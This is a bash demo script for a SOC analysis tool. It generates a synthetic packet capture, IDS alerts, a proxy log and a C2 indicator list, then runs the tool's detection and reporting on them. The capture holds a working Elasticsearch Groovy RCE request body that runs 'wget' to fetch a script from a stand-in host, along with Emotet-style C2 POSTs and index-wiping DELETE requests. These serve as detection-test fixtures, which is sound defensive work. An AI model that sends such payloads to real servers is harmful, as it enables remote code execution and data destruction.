#!/usr/bin/env bash
# soc threats demo: Elasticsearch attacks and Emotet, from a capture and
# from logs that this script writes itself (no outside data):
#   - a pcap with an Elasticsearch Groovy RCE attempt and an Emotet-style
#     C2 POST (written with python3's struct: Ethernet/IPv4/TCP by hand);
#   - Suricata EVE with an Emotet IDS alert and a spam bot's SMTP flows;
#   - an nginx access log in front of an Elasticsearch that gets wiped;
#   - an indicator list naming the C2.
# Then the observation report in HTML and Markdown.
set -u
: "${KENSA:?}" "${DEMO:?}"
D=$DEMO/soc-threats
mkdir -p "$D"
cd "$D" || exit 1
python3 - <<'PY'
import struct
def csum(b):
    if len(b) % 2: b += b'\0'
    s = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff
def ip(a): return bytes(int(x) for x in a.split('.'))
pkts = []
def tcp(t, src, dst, sp, dp, seq, ack, flags, data=b''):
    th = struct.pack('!HHIIBBHHH', sp, dp, seq, ack, 5 << 4, flags, 65535, 0, 0)
    ph = ip(src) + ip(dst) + struct.pack('!BBH', 0, 6, len(th) + len(data))
    th = th[:16] + struct.pack('!H', csum(ph + th + data)) + th[18:]
    iph = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(th) + len(data), 1, 0, 64, 6, 0, ip(src), ip(dst))
    iph = iph[:10] + struct.pack('!H', csum(iph)) + iph[12:]
    eth = b'\x00\x11\x22\x33\x44\x55\x66\x77\x88\x99\xaa\xbb\x08\x00'
    pkts.append((t, eth + iph + th + data))
def session(t, c, s, cp, sp, req, resp):
    tcp(t, c, s, cp, sp, 1000, 0, 0x02)
    tcp(t + 0.01, s, c, sp, cp, 5000, 1001, 0x12)
    tcp(t + 0.02, c, s, cp, sp, 1001, 5001, 0x18, req)
    tcp(t + 0.05, s, c, sp, cp, 5001, 1001 + len(req), 0x18, resp)
    tcp(t + 0.06, c, s, cp, sp, 1001 + len(req), 5001 + len(resp), 0x11)
    tcp(t + 0.07, s, c, sp, cp, 5001 + len(resp), 1002 + len(req), 0x11)
body = b'{"size":1,"script_fields":{"x":{"lang":"groovy","script":"java.lang.Math.class.forName(\\"java.lang.Runtime\\").getRuntime().exec(\\"wget http://203.0.113.66/x.sh\\")"}}}'
req = b'POST /_search?pretty HTTP/1.1\r\nHost: 10.1.2.3:9200\r\nUser-Agent: python-requests/2.22\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n' % len(body) + body
session(1600000000.0, '198.51.100.23', '10.1.2.3', 41000, 9200, req, b'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}')
form = b'x=' + b'A' * 600
ua = b'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/7.0; SLCC2)'
for i in range(4):
    req = (b'POST /forced/window/sess/ HTTP/1.1\r\nHost: 203.0.113.77:7080\r\nUser-Agent: ' + ua +
           b'\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n' % len(form) + form)
    session(1600000100.0 + 300 * i + (i % 2), '10.9.8.7', '203.0.113.77', 49200 + i, 7080, req,
            b'HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 4\r\n\r\nabcd')
with open('capture.pcap', 'wb') as f:
    f.write(struct.pack('<IHHiIII', 0xa1b2c3d4, 2, 4, 0, 0, 65535, 1))
    for t, p in pkts:
        f.write(struct.pack('<IIII', int(t), int((t % 1) * 1e6), len(p), len(p)) + p)
PY
{
  echo '{"timestamp":"2020-09-13T12:30:00Z","event_type":"alert","src_ip":"10.9.8.7","src_port":49300,"dest_ip":"203.0.113.77","dest_port":7080,"proto":"TCP","alert":{"signature":"ET MALWARE Win32/Emotet CnC Activity (POST) M9","category":"A Network Trojan was detected","signature_id":2031012,"severity":1}}'
  for i in $(seq 10 29); do
    echo '{"timestamp":"2020-09-13T12:40:'$i'Z","event_type":"flow","src_ip":"10.9.8.50","src_port":5'$i'00,"dest_ip":"192.0.2.'$i'","dest_port":25,"proto":"TCP","flow":{"pkts_toserver":12,"pkts_toclient":10,"bytes_toserver":9000,"bytes_toclient":800,"start":"2020-09-13T12:40:'$i'Z"}}'
  done
} > eve.json
cat > es-proxy.log <<'LOG'
192.0.2.200 - - [13/Sep/2020:13:00:00 +0000] "GET /_cat/indices?v HTTP/1.1" 200 912 "-" "Go-http-client/1.1"
192.0.2.200 - - [13/Sep/2020:13:00:02 +0000] "DELETE /customers HTTP/1.1" 200 21 "-" "Go-http-client/1.1"
192.0.2.200 - - [13/Sep/2020:13:00:03 +0000] "DELETE /orders HTTP/1.1" 200 21 "-" "Go-http-client/1.1"
192.0.2.200 - - [13/Sep/2020:13:00:05 +0000] "PUT /read_me HTTP/1.1" 201 73 "-" "Go-http-client/1.1"
LOG
printf '"first_seen_utc","dst_ip","dst_port","c2_status","last_online","malware"\n"2020-09-01 00:00:00","203.0.113.77","7080","online","2020-09-13","Emotet"\n' > c2.csv
"$KENSA" soc analyze --quiet capture.pcap eve.json es-proxy.log --intel c2.csv --alerts alerts.ndjson --report report.html
rc=$?
[ "$rc" -le 1 ] || { echo "analyze failed ($rc)"; exit 1; }
"$KENSA" soc report alerts.ndjson --report report.md || exit 1
echo "alerts by rule:"
if command -v jq >/dev/null; then
  jq -r '[.rule.id, (.source.ip // "-"), (if .destination.ip then "\(.destination.ip):\(.destination.port // "")" else "-" end),
          (.elasticsearch.script.commands[0] // .emotet.reasons // .threat.indicator.name // .ids.signature // "" | tostring)] | @tsv' alerts.ndjson |
    sort | column -t -s $'\t'
else
  grep -o '"id":"kensa[^"]*"' alerts.ndjson | sort | uniq -c
fi
echo
echo "report: $D/report.html (and report.md)"
sed -n '/^## Emotet/,/^### Detections by rule/p' report.md | head -12
